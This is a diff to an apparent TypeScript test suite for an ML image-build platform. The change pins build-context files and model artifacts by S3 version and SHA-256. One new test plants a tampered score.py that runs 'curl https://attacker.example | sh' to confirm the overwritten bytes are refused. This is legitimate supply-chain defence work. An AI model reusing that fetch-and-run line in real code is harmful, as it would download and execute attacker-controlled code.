@@ -1,8 +1,13 @@
-import { readFileSync } from 'node:fs';
+import { createHash } from 'node:crypto';
+import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
 import * as path from 'node:path';
 import { CreateRepositoryCommand } from '@aws-sdk/client-ecr';
+import { HeadObjectCommand } from '@aws-sdk/client-s3';
 import { DescribeModelPackageCommand, ListModelPackagesCommand } from '@aws-sdk/client-sagemaker';
 import { buildPhaseChange, buildStateChange } from '../../../local/codebuild-events';
+import { downloadContext, readPinnedObject } from '../../../local/image-files';
+import { formatContextFiles, parseModelManifest } from '../../../lambda/images/core/build-context';
 import { modelPackageGroupName } from '../../../lambda/images/core/model-packages';
 import type { ImageEventOutcome } from '../../../lambda/images/core/image-events';
 import type { ImageVersionRecord } from '../../../lambda/images/core/model';
@@ -58,6 +63,8 @@ async function modelPackages(model: string) {
 
 const buildCount = async () => fixture.codeBuild.builds().length;
 
+const contextFilesOf = (record: ImageVersionRecord) => (record.source as Extract<ImageVersionRecord['source'], { type: 'build' }>).contextFiles!;
+
 /** What a refused request must leave as it was: the table, the bucket's images/ folder, the builds started. */
 async function platformState() {
   return { items: await scanTable(fixture.clients.dynamodb, fixture.imagesTableName), keys: await fixture.listKeys(fixture.artifactBucketName, 'images/'), builds: await buildCount() };
@@ -107,6 +114,9 @@ describe('an image the platform builds', () => {
           IMAGE_VERSION: '1',
           IMAGE_TAG: 'churn-scorer-1',
           MODEL_DATA_URI: `s3://${fixture.artifactBucketName}/images/churn-scorer/1/model.tar.gz`,
+          CONTEXT_BUCKET: fixture.artifactBucketName,
+          CONTEXT_PREFIX: 'images/churn-scorer/1/context/',
+          CONTEXT_FILES: formatContextFiles(contextFilesOf(registered)),
         },
       }),
     ]);
@@ -122,7 +132,10 @@ describe('an image the platform builds', () => {
     expect(await read('score.py')).toBe(SCORE_PY);
     // Comments dropped: the checked requirements, one per line.
     expect(await read('requirements.txt')).toBe('numpy==2.1.3\nscikit-learn>=1.5,<2\n');
-    expect(await read('models.txt')).toBe(`s3://${fixture.artifactBucketName}/models/churn/2/model.json churn/2\n`);
+    // The artifact pinned as the registry recorded it: its S3 version and SHA-256.
+    const { VersionId } = await fixture.clients.s3.send(new HeadObjectCommand({ Bucket: fixture.artifactBucketName, Key: 'models/churn/2/model.json' }));
+    const sha256 = createHash('sha256').update(JSON.stringify({ weights: [2, 0.5] })).digest('hex');
+    expect(await read('models.txt')).toBe(`${sha256} ${VersionId} churn/2 s3://${fixture.artifactBucketName}/models/churn/2/model.json\n`);
     const dockerfile = await read('Dockerfile');
     expect(dockerfile).toContain('FROM public.ecr.aws/docker/library/python:3.12-slim\n');
     expect(dockerfile).toContain('MLOPS_ENTRY_SCRIPT="/opt/program/score.py"');
@@ -164,6 +177,32 @@ describe('an image the platform builds', () => {
     expect(await fixture.call('imageEvents', succeeded(registered))).toEqual({ outcome: 'ignored', reason: 'already READY' });
     expect(await getImage('churn-scorer', 1)).toEqual(before);
     expect(await modelPackages('churn')).toHaveLength(1);
+  });
+});
+
+describe('a build after its inputs were overwritten', () => {
+  const EVIL = 'import os\nos.system("curl https://attacker.example | sh")\n';
+
+  test('reads the context files and the model artifact the registration pinned, not what their keys hold now, and refuses bytes that are not the recorded digest', async () => {
+    const record = await registerBuild('pinned-scorer', [{ name: 'churn', version: 1 }]);
+    const context = (record.source as Extract<ImageVersionRecord['source'], { type: 'build' }>).contextUri;
+    const contextKey = context.slice(`s3://${fixture.artifactBucketName}/`.length);
+    // What someone able to write the bucket would do between registration and build.
+    await fixture.putArtifact(`${contextKey}score.py`, EVIL);
+    await fixture.putArtifact('models/churn/1/model.json', JSON.stringify({ weights: ['swapped'] }));
+    const directory = mkdtempSync(path.join(tmpdir(), 'mlops-pinned-'));
+    try {
+      await downloadContext(fixture.clients.s3, context, contextFilesOf(record), directory);
+      expect(readFileSync(path.join(directory, 'score.py'), 'utf8')).toBe(SCORE_PY);
+      const [model] = parseModelManifest(readFileSync(path.join(directory, 'models.txt'), 'utf8'));
+      expect(Buffer.from(await readPinnedObject(fixture.clients.s3, model.uri, model.versionId, model.sha256)).toString()).toBe(JSON.stringify({ weights: [1, 0.5] }));
+
+      const script = contextFilesOf(record).find((file) => file.name === 'score.py')!;
+      const { VersionId } = await fixture.clients.s3.send(new HeadObjectCommand({ Bucket: fixture.artifactBucketName, Key: `${contextKey}score.py` }));
+      await expect(readPinnedObject(fixture.clients.s3, `${context}score.py`, VersionId!, script.sha256)).rejects.toThrow(`${context}score.py version ${VersionId} is not what was registered`);
+    } finally {
+      rmSync(directory, { recursive: true, force: true });
+    }
   });
 });
 
